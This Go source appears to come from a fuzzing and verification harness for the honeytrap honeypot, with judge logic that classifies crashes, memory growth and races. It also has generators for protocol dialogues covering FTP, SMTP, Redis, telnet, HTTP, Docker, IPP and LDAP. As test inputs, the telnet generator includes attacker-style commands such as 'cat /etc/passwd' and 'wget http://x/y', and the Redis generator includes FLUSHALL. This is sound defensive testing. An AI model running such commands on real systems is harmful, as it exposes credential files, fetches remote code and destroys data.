			case sc.Token == "":
				stateClass += "|empty"
			case len(sc.Token) < 20:
				stateClass += "|prefix"
			default:
				stateClass += "|trailing-newline"
			}
		}
		for i, ro := range ob.Runs {
			if ro.Killed {
				continue
			}
			if !ro.Up {
				fail("does-not-come-up|"+stateClass, fmt.Sprintf("start %d did not come up within 20 s on three attempts: %s", i, clip(ro.Tail)))
				continue
			}
			ups++
			if sc.Kind != "agent" {
				switch {
				case len(ro.Tokens) == 0:
					fail("no-token-in-events|"+stateClass, fmt.Sprintf("run %d produced no event line with a token within 20 s and five telnet sessions (%s)", i, clip(ro.Tail)))
				case len(ro.Tokens) > 1:
					fail("several-tokens-in-one-run", fmt.Sprintf("run %d: events carry tokens %v", i, ro.Tokens))
				default:
					tokenSeen = true
					t := ro.Tokens[0]
					if !tokenRE.MatchString(t) {
						fail("token-ill-formed|"+stateClass, fmt.Sprintf("run %d: events carry token %q (token file holds %q)", i, t, ro.TokenFile))
					}
					ro.Identity["token"] = t
				}
			}
			for key, v := range ro.Identity {
				if strings.Contains(v, "|") {
					fail("identity-differs-between-clients-of-one-run|"+key, fmt.Sprintf("run %d: clients that connected at the same time were shown different values of %s: %s", i, key, v))
					continue
				}
				if v == "" {
					fail("identity-unreadable|"+key, fmt.Sprintf("run %d: %s could not be read from the running service %s", i, key, clip(ro.Tail)))
					continue
				}
				if f, ok := first[key]; ok && f != v {
					fail("identity-changed|"+key+"|"+stateClass, fmt.Sprintf("%s was %s in run %d and %s in run %d on the same data directory", key, f, firstRun[key], v, i))
				} else if !ok {
					first[key], firstRun[key] = v, i
				}
			}
		}
		if ups >= 2 && (tokenSeen || sc.Kind == "agent") {
			jb, _ := json.Marshal(sc)
			res.Key = string(jb)
			res.Sample = map[string]interface{}{"kind": sc.Kind, "token_file_state_before_first_start": sc.Token, "runs": sc.Runs, "identity_per_run": identities(ob)}
		}
		out = append(out, res)
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("harness child died (%s %s)", e.Class, e.Frame)})
		}
	}
	return out
}

func identities(ob scnObs) []map[string]string {
	var o []map[string]string
	for _, r := range ob.Runs {
		m := map[string]string{}
		for k, v := range r.Identity {
			m[k] = v
		}
		if len(r.Tokens) == 1 {
			m["token"] = r.Tokens[0]
		}
		if r.Killed {
			m["(killed during start)"] = "token file: " + r.TokenFile
		}
		o = append(o, m)
	}
	return o
}

func clip(s string) string {
	if len(s) > 300 {
		return s[len(s)-300:]
	}
	return s
}

var _ = bytes.Equal
