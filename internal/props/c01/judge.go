package c01

import (
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"

	"verif/htlab/internal/core"
	"verif/htlab/internal/gen"
)

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	s := gen.Services()[p.Svc]
	svc := s.Type + "/" + s.Net
	var out []core.Result
	type mg struct {
		K       int64    `json:"k"`
		RSS     uint64   `json:"rss"`
		QuietMs int64    `json:"quiet_ms"`
		Samples []uint64 `json:"samples"`
	}
	var guards []mg
	for _, r := range recs {
		switch r.T {
		case "scn":
			var sr scnRec
			if r.XInto(&sr) != nil {
				continue
			}
			res := core.Result{K: r.K, Verdict: core.Held}
			if sr.Reply > 0 || sr.Events > 0 {
				res.Key = fmt.Sprintf("%s|%s|seg%d|K%d", svc, sr.Hash, sr.Seg, sr.K)
				res.Sample = map[string]interface{}{"service": svc, "kind": sr.Kind, "input_head_hex": sr.Head, "input_bytes": sr.Bytes,
					"segmentation": sr.Seg, "connections": sr.K, "reply_bytes": sr.Reply, "events": sr.Events, "recovered_panics": sr.Recovered, "probe_ok": sr.ProbeOK}
			}
			if !sr.ProbeOK {
				res.Verdict = core.Violated
				res.Sig = "C01|" + svc + "|probe-dead"
				res.What = "echo probe on a fresh connection was not served after scenario"
				res.Witness = sr
			}
			// stash for the summary
			res.Witness = sr
			out = append(out, res)
		case "health":
			var hr healthRec
			if r.XInto(&hr) == nil {
				out = append(out, core.Result{K: r.K, Verdict: core.Violated, Sig: "C01|" + svc + "|service-stops-answering",
					What: fmt.Sprintf("after scenario %d a well-formed dialogue on a new connection got %d reply bytes; before the workload the service gave %d bytes deterministically (same prefix: %d)", hr.K, hr.Got, hr.Want, hr.Same), Witness: hr})
			}
		case "idlegrow":
			out = append(out, core.Result{K: r.K, Verdict: core.Violated, Sig: "C01|" + svc + "|memory-grows-without-client-input",
				What: "with every client gone, heap and resident memory kept growing (two windows of 450 ms one second apart, more than 24 MiB each): a handler spins on input it has already received", Witness: r.X})
		case "idlemem":
			var ms []struct{ Heap, RSS uint64 }
			if r.XInto(&ms) == nil && len(ms) >= 3 {
				if ms[0].Heap < ms[1].Heap && ms[1].Heap < ms[2].Heap && ms[0].RSS < ms[1].RSS && ms[1].RSS < ms[2].RSS && ms[2].Heap-ms[0].Heap > 32<<20 {
					out = append(out, core.Result{K: r.K, Verdict: core.Violated, Sig: "C01|" + svc + "|membomb-idle", What: "heap and RSS keep growing with all clients idle", Witness: ms})
				}
			}
		case "memguard":
			var g mg
			if r.XInto(&g) == nil {
				guards = append(guards, g)
			}
		case "starterr":
			out = append(out, core.Result{K: -1, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		}
	}
	gi := 0
	for _, e := range exits {
		for _, rr := range e.Races {
			if rr.Map {
				out = append(out, core.Result{K: maxi(e.LastBegun, 0), Verdict: core.Violated, Sig: "C01|" + svc + "|race:map|" + rr.Pair,
					What: "data race on a honeytrap map between concurrent connection handlers (" + rr.Pair + ")", Witness: rr.Block})
			}
		}
		if !e.Died() {
			continue
		}
		k := e.LastBegun
		switch {
		case e.Class == "memguard":
			var g mg
			if gi < len(guards) {
				g = guards[gi]
				gi++
			}
			frame := guardFrame(e)
			inc := len(g.Samples) >= 4
			for i := len(g.Samples) - 3; inc && i < len(g.Samples); i++ {
				if i > 0 && g.Samples[i] <= g.Samples[i-1] {
					inc = false
				}
			}
			if g.QuietMs >= 500 && inc {
				out = append(out, core.Result{K: -1, Verdict: core.Violated, Sig: "C01|" + svc + "|membomb|" + frame,
					What: fmt.Sprintf("resident memory kept growing past 3 GiB for %d ms without any client input (allocating in %s)", g.QuietMs, frame), Witness: map[string]interface{}{"guard": g, "stderr": e.Stderr, "heap_top": heapTop(e), "last_input": lastInput(e)}})
			} else {
				out = append(out, core.Result{K: k, Verdict: core.Inconclusive, What: "memory guard tripped without a quiet growth history (" + svc + ")"})
			}
		case e.TimedOut:
			out = append(out, core.Result{K: k, Verdict: core.Inconclusive, What: "child watchdog fired (" + svc + ")"})
		case e.Class != "" && e.Class != "killed":
			out = append(out, core.Result{K: k, Verdict: core.Violated, Sig: "C01|" + svc + "|" + e.Class + "|" + e.Frame,
				What: fmt.Sprintf("process died: %s in %s", e.Class, e.Frame), Witness: map[string]interface{}{"exit_code": e.Code, "signal": e.Signal, "stderr": clip(e.Stderr, 3000), "last_input": lastInput(e)}})
		default:
			out = append(out, core.Result{K: k, Verdict: core.Inconclusive, What: fmt.Sprintf("child ended abnormally without a Go fatal banner (code=%d signal=%s) (%s)", e.Code, e.Signal, svc)})
		}
	}
	return out
}

func maxi(a, b int) int {
	if a > b {
		return a
	}
	return b
}

func clip(s string, n int) string {
	if len(s) > n {
		return s[:n]
	}
	return s
}

// guardFrame finds the honeytrap function that was running when the memory guard tripped.
func guardFrame(e core.Exit) string {
	return guardFrameSel(e, true)
}

func guardFrameSel(e core.Exit, outermost bool) string {
	b, err := os.ReadFile(filepath.Join(e.WorkDir, "stderr.txt"))
	if err != nil {
		return "?"
	}
	s := string(b)
	i := strings.Index(s, "MEMGUARD tripped")
	if i < 0 {
		return "?"
	}
	count := map[string]int{}
	for _, blk := range strings.Split(s[i:], "\n\n") {
		first := blk
		if j := strings.Index(blk, "\n"); j > 0 {
			first = blk[:j]
		}
		if !strings.Contains(first, "[running") && !strings.Contains(first, "[runnable") {
			continue
		}
		// the service's entry frame (outermost honeytrap frame below the
		// dispatcher) is the stable name of "which handler keeps allocating"
		sel := ""
		for _, ln := range strings.Split(blk, "\n") {
			if strings.HasPrefix(ln, "github.com/honeytrap/honeytrap/") {
				f := strings.TrimPrefix(ln, "github.com/honeytrap/honeytrap/")
				if k := strings.LastIndex(f, "("); k > 0 {
					f = f[:k]
				}
				if !strings.HasPrefix(f, "server.") {
					sel = f
					if !outermost {
						break
					}
				}
			}
		}
		if sel != "" {
			count[sel]++
		}
	}
	best, bn := "?", 0
	var keys []string
	for k := range count {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		if count[k] > bn {
			best, bn = k, count[k]
		}
	}
	return best
}

func (prop) Summarize(all []core.Result, nrec int) map[string]interface{} {
	rp := map[string]int{}
	events, bytes, conns, linger := 0, 0, 0, 0
	kinds := map[string]int{}
	for _, r := range all {
		if sr, ok := r.Witness.(scnRec); ok {
			events += sr.Events
			bytes += sr.Bytes * sr.K
			conns += sr.K
			linger += sr.Linger
			kinds[sr.Kind]++
			for _, s := range sr.Recovered {
				rp[s]++
			}
		}
	}
	return map[string]interface{}{"events_observed": events, "bytes_sent": bytes, "connections": conns, "recovered_panics": rp,
		"handlers_still_running_after_client_close": linger, "scenario_kinds": kinds}
}

// lastInput is the scenario the child had written to disk before it died.
func lastInput(e core.Exit) interface{} {
	b, err := os.ReadFile(filepath.Join(e.WorkDir, "last_input.json"))
	if err != nil {
		return nil
	}
	var v interface{}
	json.Unmarshal(b, &v)
	return v
}

// heapTop summarises the heap profile the child wrote when its memory guard tripped (in-use space by function).
func heapTop(e core.Exit) string {
	prof := filepath.Join(e.WorkDir, "heap.pprof")
	if _, err := os.Stat(prof); err != nil {
		return ""
	}
	out, err := exec.Command("go", "tool", "pprof", "-top", "-nodecount=12", "-sample_index=inuse_space", prof).CombinedOutput()
	if err != nil {
		return "pprof: " + err.Error()
	}
	return clip(string(out), 2500)
}
