package gen

import (
	"encoding/binary"
	"fmt"
	"strings"

	"verif/htlab/internal/core"
)

// Service describes how a service of the C01 quantifier is configured and
// what a grammar-derived dialogue for it looks like.
type Service struct {
	Type     string
	Net      string // tcp | udp
	Port     int
	Extra    func(work string) string
	Dialogue func(r *core.Rng) [][]byte
	Special  string // "ssh": x/crypto client scenarios; "tls": TLS client scenarios
}

func crlf(lines ...string) [][]byte {
	var out [][]byte
	for _, l := range lines {
		out = append(out, []byte(l+"\r\n"))
	}
	return out
}

var pathAlphabet = []string{"a", "b", "..", ".", "", "/", "a/b", "../..", "/a", "/..", "....", "a/../..", "x y", strings.Repeat("A", 255)}

func ftpPath(r *core.Rng) string {
	n := r.Range(1, 4)
	var parts []string
	for i := 0; i < n; i++ {
		parts = append(parts, r.PickS(pathAlphabet))
	}
	p := strings.Join(parts, "/")
	if r.Chance(1, 3) {
		p = "/" + p
	}
	return p
}

func FTPDialogue(r *core.Rng) [][]byte {
	var l []string
	if r.Chance(4, 5) {
		l = append(l, "USER anonymous", "PASS anonymous")
	} else if r.Bool() {
		l = append(l, "USER "+r.Alnum(5), "PASS "+r.Alnum(5))
	}
	verbs := []string{"CWD", "CDUP", "PWD", "MKD", "RMD", "DELE", "RNFR", "RNTO", "STOR", "APPE", "RETR", "LIST", "NLST", "MDTM", "SIZE",
		"PASV", "EPSV", "EPRT", "PORT", "FEAT", "SYST", "TYPE", "MODE", "STRU", "NOOP", "REST", "ALLO", "OPTS", "AUTH", "PBSZ", "PROT", "STAT", "XCWD", "XPWD", "XMKD", "XRMD", "QUIT", "XYZZY", ""}
	n := r.Range(1, 8)
	for i := 0; i < n; i++ {
		v := r.PickS(verbs)
		switch v {
		case "PASV", "EPSV", "FEAT", "SYST", "NOOP", "PWD", "XPWD", "CDUP", "QUIT", "STAT":
			if v == "QUIT" && i < n-1 {
				v = "NOOP"
			}
			if (v == "PASV" || v == "EPSV") && r.Chance(2, 3) {
				v = "NOOP" // keep most dialogues free of real listening sockets
			}
			l = append(l, v)
		case "PORT":
			l = append(l, fmt.Sprintf("PORT 127,0,0,1,%d,%d", r.Intn(256), r.Intn(256)))
		case "EPRT":
			l = append(l, r.PickS([]string{"EPRT |1|127.0.0.1|1|", "EPRT |2|::1|1|", "EPRT |1|", "EPRT ||||", "EPRT |9|x|y|"}))
		case "TYPE":
			l = append(l, "TYPE "+r.PickS([]string{"A", "I", "E", "L 8", ""}))
		case "REST":
			l = append(l, "REST "+r.PickS([]string{"0", "10", "-1", "99999999999999999999", "x"}))
		case "AUTH":
			l = append(l, "AUTH "+r.PickS([]string{"SSL", "XYZ"})) // TLS upgrade handled by the tls special
		case "OPTS":
			l = append(l, "OPTS "+r.PickS([]string{"UTF8 ON", "UTF8", "x"}))
		default:
			l = append(l, strings.TrimSpace(v+" "+ftpPath(r)))
		}
	}
	return crlf(l...)
}

func SMTPDialogue(r *core.Rng) [][]byte {
	var out [][]byte
	dom := r.Alnum(6) + ".test"
	out = append(out, crlf(r.PickS([]string{"HELO " + dom, "EHLO " + dom, "HELP", "EHLO", "NOOP"}))...)
	n := r.Range(1, 4)
	for i := 0; i < n; i++ {
		switch r.Intn(8) {
		case 0, 1, 2:
			out = append(out, crlf("MAIL FROM:<a@"+dom+">", "RCPT TO:<b@"+dom+">", "DATA")...)
			body := "Subject: " + r.Alnum(8) + "\r\nFrom: a@" + dom + "\r\n\r\nhello " + r.Alnum(12) + "\r\n..dot\r\n.\r\n"
			if r.Chance(1, 5) {
				body = r.Alnum(10) + "\r\n.\r\n" // no headers
			}
			out = append(out, []byte(body))
		case 3:
			chunk := "Subject: x\r\n\r\nbody " + r.Alnum(r.Range(0, 40)) + "\r\n"
			out = append(out, crlf("MAIL FROM:<a@"+dom+">")...)
			out = append(out, []byte(fmt.Sprintf("BDAT %d LAST\r\n%s", len(chunk), chunk)))
		case 4:
			out = append(out, crlf("MAIL FROM:<a@"+dom+">", r.PickS([]string{"BDAT", "BDAT x", "BDAT -5", "BDAT 0 LAST", "BDAT 99999999999", "BDAT 3 LAST"}))...)
		case 5:
			out = append(out, crlf(r.PickS([]string{"RSET", "NOOP", "HELP", "VRFY x", "", " "}))...)
		case 6:
			out = append(out, crlf("STARTTLS")...)
		case 7:
			out = append(out, crlf("MAIL FROM:<x>", "RSET", "HELP", "FOO")...)
		}
	}
	if r.Bool() {
		out = append(out, crlf("QUIT")...)
	}
	return out
}

func resp(args ...string) []byte {
	s := fmt.Sprintf("*%d\r\n", len(args))
	for _, a := range args {
		s += fmt.Sprintf("$%d\r\n%s\r\n", len(a), a)
	}
	return []byte(s)
}

func RedisDialogue(r *core.Rng) [][]byte {
	var out [][]byte
	cmds := [][]string{{"PING"}, {"INFO"}, {"SET", "k", "v"}, {"GET", "k"}, {"FLUSHALL"}, {"CONFIG", "SET", "dir", "/tmp"}, {"SAVE"}, {"QUIT"}, {"EVAL", "x", "0"}, {"foo"}}
	n := r.Range(1, 6)
	for i := 0; i < n; i++ {
		switch r.Intn(10) {
		case 0:
			out = append(out, []byte(r.PickS([]string{"*0\r\n", "*1\r\n*0\r\n", "*2\r\n*1\r\n$1\r\nx\r\n$1\r\ny\r\n", "$4\r\nPING\r\n", "+PING\r\n", ":5\r\n", "*1\r\n:5\r\n", "*1\r\n$\r\n", "*-1\r\n", "*99999999999999999999\r\n", "*3\r\n$3\r\nSET\r\n", "\r\n", "*1\r\n+PING\r\n", "*1\r\n$4\r\n"})))
		default:
			c := cmds[r.Intn(len(cmds))]
			if c[0] == "QUIT" && i < n-1 {
				c = []string{"PING"}
			}
			out = append(out, resp(c...))
		}
	}
	return out
}

func MemcachedLines(r *core.Rng) [][]byte {
	var out [][]byte
	n := r.Range(1, 6)
	for i := 0; i < n; i++ {
		switch r.Intn(8) {
		case 0:
			out = append(out, []byte("stats\r\n"))
		case 1:
			out = append(out, []byte("flush_all\r\n"))
		case 2, 3:
			sz := r.PickI([]int{0, 1, 5, 79, 80, 81, 200})
			out = append(out, []byte(fmt.Sprintf("%s %s 0 0 %d\r\n%s\r\n", r.PickS([]string{"set", "add", "replace", "append", "prepend", "cas"}), r.Alnum(4), sz, r.Alnum(sz))))
		case 4:
			out = append(out, []byte(r.PickS([]string{"set k 0 0\r\n", "set k 0 0 x\r\n", "set k 0 0 -5\r\nabc\r\n", "set k 0 0 99999999999\r\nabc\r\n", "set\r\n", "\r\n", "\n"})))
		default:
			out = append(out, []byte(r.PickS([]string{"get ", "gets ", "delete ", "incr ", "version", "verbosity 1", "quit"})+r.Alnum(3)+"\r\n"))
		}
	}
	return out
}

func MemcachedUDP(r *core.Rng) [][]byte {
	var out [][]byte
	for _, d := range MemcachedLines(r) {
		hdr := []byte{0, byte(r.Intn(256)), 0, 0, 0, 1, 0, 0}
		if r.Chance(1, 10) {
			hdr = hdr[:r.Intn(8)]
		}
		out = append(out, append(hdr, d...))
	}
	if r.Chance(1, 3) { // multi-command datagram
		var b []byte
		for _, d := range MemcachedLines(r) {
			b = append(b, d...)
		}
		out = append(out, append([]byte{0, 1, 0, 0, 0, 1, 0, 0}, b...))
	}
	return out
}

func TelnetDialogue(r *core.Rng) [][]byte {
	var out [][]byte
	eol := func() string { return r.PickS([]string{"\r\n", "\n"}) }
	out = append(out, []byte(r.Alnum(5)+eol()), []byte(r.Alnum(6)+eol()))
	n := r.Range(0, 6)
	for i := 0; i < n; i++ {
		switch r.Intn(8) {
		case 0:
			out = append(out, []byte{255, byte(251 + r.Intn(4)), byte(r.Intn(40))})
		case 1:
			out = append(out, []byte("\x1b["+r.PickS([]string{"A", "B", "C", "D", "200~", "201~", "1;5C", "3~"})))
		case 2:
			out = append(out, []byte{byte(r.Intn(32)), 127, 8})
		case 3:
			out = append(out, []byte(strings.Repeat("x", r.Range(100, 5000))+eol()))
		default:
			out = append(out, []byte(r.PickS([]string{"ls -la", "cat /etc/passwd", "wget http://x/y", "", "exit", "enable", "sh"})+eol()))
		}
	}
	return out
}

// HTTPRequest renders one request.
func HTTPRequest(method, target string, headers [][2]string, body []byte, chunked bool) []byte {
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", method, target)
	for _, h := range headers {
		fmt.Fprintf(&b, "%s: %s\r\n", h[0], h[1])
	}
	if chunked {
		b.WriteString("Transfer-Encoding: chunked\r\n\r\n")
		for off := 0; off < len(body); {
			n := len(body) - off
			if n > 37 {
				n = 37
			}
			fmt.Fprintf(&b, "%x\r\n%s\r\n", n, body[off:off+n])
			off += n
		}
		b.WriteString("0\r\n\r\n")
	} else {
		if body != nil || method == "POST" || method == "PUT" {
			fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
		}
		b.WriteString("\r\n")
		b.Write(body)
	}
	return []byte(b.String())
}

func httpGeneric(r *core.Rng, targets []string, bodies []string, ctype string) [][]byte {
	var out [][]byte
	n := r.Range(1, 3)
	for i := 0; i < n; i++ {
		m := r.PickS([]string{"GET", "POST", "PUT", "HEAD", "DELETE", "OPTIONS", "PATCH", "TRACE", "CONNECT", "FOO"})
		hs := [][2]string{{"Host", "h" + r.Alnum(4) + ".test"}}
		if ctype != "" {
			hs = append(hs, [2]string{"Content-Type", ctype})
		}
		for j := r.Intn(4); j > 0; j-- {
			hs = append(hs, [2]string{r.PickS([]string{"User-Agent", "X-" + r.Alnum(3), "Cookie", "Accept", "Authorization", "Expect", "Connection"}), r.PickS([]string{"a=b; c=d", r.Alnum(8), "100-continue", "close", "keep-alive", "Basic " + r.Alnum(8)})})
		}
		var body []byte
		if m == "POST" || m == "PUT" || r.Chance(1, 5) {
			body = []byte(r.PickS(bodies))
		}
		out = append(out, HTTPRequest(m, r.PickS(targets), hs, body, r.Chance(1, 4)))
	}
	if r.Chance(1, 6) {
		out = append(out, []byte(r.PickS([]string{"GET / HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n", "POST / HTTP/1.1\r\nContent-Length: -1\r\n\r\n", "GET\r\n\r\n", "GET / HTTP/9.9\r\n\r\n", "POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n", "GET / HTTP/1.1\r\n" + strings.Repeat("X: y\r\n", 3000) + "\r\n"})))
	}
	return out
}

func HTTPDialogue(r *core.Rng) [][]byte {
	return httpGeneric(r, []string{"/", "/index.html", "/a/b?c=d", "*", "http://x.test/y", "/%zz", "//"}, []string{"", "a=b", strings.Repeat("z", 2000)}, "")
}
func ElasticDialogue(r *core.Rng) [][]byte {
	return httpGeneric(r, []string{"/", "/_search", "/_cat/indices", "/x/_doc/1"}, []string{`{"query":{"match_all":{}}}`, "{", ""}, "application/json")
}
func DockerDialogue(r *core.Rng) [][]byte {
	return httpGeneric(r, []string{"/", "/version", "/info", "/v1.24/containers/json", "/containers/create", "/v1.30/containers/abc/start", "/containers/abc/kill", "/images/json", "/images/create?fromImage=x", "/images/create?fromImage=x&tag=y", "/_ping", "/v9/containers/x/exec"}, []string{`{"Image":"x","Cmd":["sh"]}`, "{", "", "[]"}, "application/json")
}
func EOSDialogue(r *core.Rng) [][]byte {
	return httpGeneric(r, []string{"/v1/wallet/list_keys", "/v1/chain/get_info", "/"}, []string{`["a","b"]`, "", "x"}, "application/json")
}
func EthereumDialogue(r *core.Rng) [][]byte {
	ms := []string{"eth_getBalance", "net_version", "eth_accounts", "eth_blockNumber", "web3_clientVersion", "eth_getBlockByNumber", "eth_sendTransaction", "personal_unlockAccount", "rpc_modules", "nope"}
	return httpGeneric(r, []string{"/"}, []string{
		fmt.Sprintf(`{"jsonrpc":"2.0","method":"%s","params":[],"id":%d}`, r.PickS(ms), r.Intn(100)),
		`{"jsonrpc":"2.0","method":5,"id":{}}`, `[{"method":"eth_accounts"}]`, `{"method":null}`, "{", `""`, "null"}, "application/json")
}
func CWMPDialogue(r *core.Rng) [][]byte {
	soap := `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap:Body><cwmp:%s><X>%s</X></cwmp:%s></soap:Body></soap:Envelope>`
	m := r.PickS([]string{"Inform", "GetParameterValues", "SetParameterValues", "Reboot"})
	return httpGeneric(r, []string{"/", "/acs", "/UD/act?1"}, []string{
		fmt.Sprintf(soap, m, r.Alnum(5), m),
		`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"></soap:Envelope>`,
		`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body></soap:Body></soap:Envelope>`,
		`<a>`, `xml soap <`, ""}, "text/xml")
}

// ---- IPP ---------------------------------------------------------------

func ippAttr(tag byte, name, val string) []byte {
	b := []byte{tag}
	b = binary.BigEndian.AppendUint16(b, uint16(len(name)))
	b = append(b, name...)
	b = binary.BigEndian.AppendUint16(b, uint16(len(val)))
	b = append(b, val...)
	return b
}

// IPPBody builds an IPP request body; variants cover the hostile shapes.
func IPPBody(r *core.Rng) []byte {
	op := r.PickI([]int{2, 4, 5, 9, 0xb, 0x400b, 0x7777})
	b := []byte{byte(r.PickI([]int{1, 2})), byte(r.Intn(3))}
	b = binary.BigEndian.AppendUint16(b, uint16(op))
	b = binary.BigEndian.AppendUint32(b, uint32(r.Intn(1<<31)))
	b = append(b, 0x01)
	b = append(b, ippAttr(0x47, "attributes-charset", "utf-8")...)
	b = append(b, ippAttr(0x48, "attributes-natural-language", "en")...)
	b = append(b, ippAttr(0x45, "printer-uri", "ipp://h/printers/"+r.Alnum(4))...)
	if r.Bool() {
		b = append(b, ippAttr(0x42, "requesting-user-name", r.Alnum(5))...)
		b = append(b, ippAttr(0x42, "job-name", r.Alnum(5))...)
		b = append(b, ippAttr(0x49, "document-format", r.PickS([]string{"application/pdf", "application/octet-stream", "image/pwg-raster"}))...)
	}
	switch r.Intn(10) {
	case 0: // integer attribute
		b = append(b, ippAttr(0x21, "copies", "\x00\x00\x00\x01")...)
	case 1: // boolean as last attribute
		b = append(b, ippAttr(0x22, "flag", "\x01")...)
	case 2: // unknown value tag
		b = append(b, ippAttr(byte(r.PickI([]int{0x10, 0x13, 0x30, 0x31, 0x32, 0x34, 0x35, 0x36, 0x4a, 0x7f, 0xff})), "x", "y")...)
	case 3: // rangeOfInteger
		b = append(b, ippAttr(0x33, "r", "\x00\x00\x00\x01\x00\x00\x00\x05")...)
	case 4: // 1setOf keyword
		b = append(b, ippAttr(0x44, "requested-attributes", "all")...)
		b = append(b, ippAttr(0x44, "", "media")...)
	case 5: // job group
		b = append(b, 0x02)
		b = append(b, ippAttr(0x23, "e", "\x00\x00\x00\x03")...)
	}
	switch r.Intn(6) {
	case 0: // no end tag
	case 1: // end tag + document
		b = append(b, 0x03)
		b = append(b, r.Bytes(r.Range(0, 300))...)
	case 2: // name length beyond end
		b = append(b, 0x42, 0xff, 0xff)
	case 3: // length field >= 0x8000
		b = append(b, 0x42, 0x80, 0x00, 'x')
	default:
		b = append(b, 0x03)
	}
	return b
}

func IPPDialogue(r *core.Rng) [][]byte {
	body := IPPBody(r)
	ct := "application/ipp"
	if r.Chance(1, 10) {
		ct = "text/plain"
	}
	m := "POST"
	if r.Chance(1, 12) {
		m = "GET"
	}
	return [][]byte{HTTPRequest(m, "/printers/x", [][2]string{{"Host", "p.test"}, {"Content-Type", ct}}, body, r.Chance(1, 5))}
}

// ---- LDAP (BER) ----------------------------------------------------------

func berLen(n int) []byte {
	switch {
	case n < 0x80:
		return []byte{byte(n)}
	case n < 0x100:
		return []byte{0x81, byte(n)}
	case n < 0x10000:
		return []byte{0x82, byte(n >> 8), byte(n)}
	default:
		return []byte{0x84, byte(n >> 24), byte(n >> 16), byte(n >> 8), byte(n)}
	}
}

func BER(tag byte, content ...[]byte) []byte {
	var c []byte
	for _, x := range content {
		c = append(c, x...)
	}
	return append(append([]byte{tag}, berLen(len(c))...), c...)
}

func BERInt(v int) []byte {
	if v >= 0 && v < 0x80 {
		return BER(0x02, []byte{byte(v)})
	}
	return BER(0x02, []byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
}
func BERStr(s string) []byte  { return BER(0x04, []byte(s)) }
func BEREnum(v int) []byte    { return BER(0x0a, []byte{byte(v)}) }
func BERBool(v bool) []byte {
	if v {
		return BER(0x01, []byte{0xff})
	}
	return BER(0x01, []byte{0})
}

func LDAPMsg(id int, op []byte) []byte { return BER(0x30, BERInt(id), op) }

func LDAPBind(id int, dn, pw string) []byte { return LDAPBindV(id, 3, dn, pw) }

// LDAPBindV is a simple bind that announces the given protocol version.
func LDAPBindV(id, version int, dn, pw string) []byte {
	return LDAPMsg(id, BER(0x60, BERInt(version), BERStr(dn), BER(0x80, []byte(pw))))
}

func LDAPSearch(id int, base string, filter []byte, attrs ...string) []byte {
	var as [][]byte
	for _, a := range attrs {
		as = append(as, BERStr(a))
	}
	return LDAPMsg(id, BER(0x63, BERStr(base), BEREnum(2), BEREnum(0), BERInt(0), BERInt(0), BERBool(false), filter, BER(0x30, as...)))
}

func LDAPFilterPresent(attr string) []byte { return BER(0x87, []byte(attr)) }
func LDAPFilterEq(attr, val string) []byte { return BER(0xa3, BERStr(attr), BERStr(val)) }

func LDAPDialogue(r *core.Rng) [][]byte {
	var out [][]byte
	id := 1
	n := r.Range(1, 6)
	for i := 0; i < n; i++ {
		switch r.Intn(14) {
		case 0:
			out = append(out, LDAPBind(id, "", ""))
		case 1:
			out = append(out, LDAPBind(id, "root", "root"))
		case 2:
			out = append(out, LDAPBind(id, "cn="+r.Alnum(4)+",dc=x", r.Alnum(4)))
		case 3:
			out = append(out, LDAPSearch(id, "", LDAPFilterPresent("objectClass")))
		case 4:
			out = append(out, LDAPSearch(id, "dc=x", LDAPFilterEq(r.PickS([]string{"uid", "givenName", "cn"}), r.Alnum(4)), "cn", "*"))
		case 5: // add
			out = append(out, LDAPMsg(id, BER(0x68, BERStr("cn=x,dc=y"), BER(0x30, BER(0x30, BERStr("cn"), BER(0x31, BERStr("x")))))))
		case 6: // delete
			out = append(out, LDAPMsg(id, BER(0x4a, []byte("cn=x,dc=y"))))
		case 7: // modify
			out = append(out, LDAPMsg(id, BER(0x66, BERStr("cn=x"), BER(0x30, BER(0x30, BEREnum(2), BER(0x30, BERStr("sn"), BER(0x31, BERStr("v"))))))))
		case 8: // compare
			out = append(out, LDAPMsg(id, BER(0x6e, BERStr("cn=x"), BER(0x30, BERStr("cn"), BERStr("x")))))
		case 9: // modifyDN
			out = append(out, LDAPMsg(id, BER(0x6c, BERStr("cn=x"), BERStr("cn=y"), BERBool(true))))
		case 10: // abandon / extended
			if r.Bool() {
				out = append(out, LDAPMsg(id, BER(0x50, []byte{1})))
			} else {
				out = append(out, LDAPMsg(id, BER(0x77, BER(0x80, []byte(r.PickS([]string{"1.3.6.1.4.1.4203.1.11.3", "1.2.3", ""}))))))
			}
		case 11: // hostile shapes (bounded declared lengths only; huge ones are a fixed boundary case)
			out = append(out, [][]byte{
				{0x30, 0x00}, {0x30, 0x03, 0x02, 0x01}, {0x30, 0x80, 0x02, 0x01, 0x01, 0x00, 0x00},
				{0x30, 0x05, 0x02, 0x01, 0x01, 0x60, 0x00}, {0x30, 0x06, 0x02, 0x01, 0x01, 0x63, 0x01, 0x00},
				BER(0x30, BERStr("x"), BERStr("y")), BER(0x30, BERInt(1), BER(0x60)), BER(0x30, BERInt(1), BER(0x63, BERStr(""))),
				BER(0x30, BERInt(1), BER(0x63, BERStr(""), BEREnum(0), BEREnum(0), BERInt(0), BERInt(0), BERBool(false), BER(0xa0), BER(0x30))),
				BER(0x30, BERInt(1), BER(0x63, BERStr(""), BEREnum(0), BEREnum(0), BERInt(0), BERInt(0), BERBool(false), BER(0xa4, BERStr("cn"), BER(0x30)), BER(0x30))),
